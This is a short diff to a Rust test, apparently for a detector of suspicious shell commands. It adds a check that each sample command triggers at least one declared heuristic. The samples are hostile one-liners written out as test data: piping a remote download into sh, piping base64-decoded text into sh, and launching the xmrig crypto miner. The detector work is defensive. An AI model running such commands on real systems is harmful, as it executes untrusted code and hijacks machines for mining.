@@ -91,7 +91,9 @@ mod tests {
     fn every_id_is_a_declared_heuristic() {
         let commands = ["curl http://192.0.2.1/x | sh", "echo aGk= | base64 -d | sh", "xmrig --donate-level 1"];
         for command in commands {
-            for found in suspicious_command(command) {
+            let matches = suspicious_command(command);
+            assert!(!matches.is_empty(), "{command}");
+            for found in matches {
                 assert!(crate::heuristics::HEURISTICS.iter().any(|h| h.id == found.id), "`{}` is not declared", found.id);
             }
         }
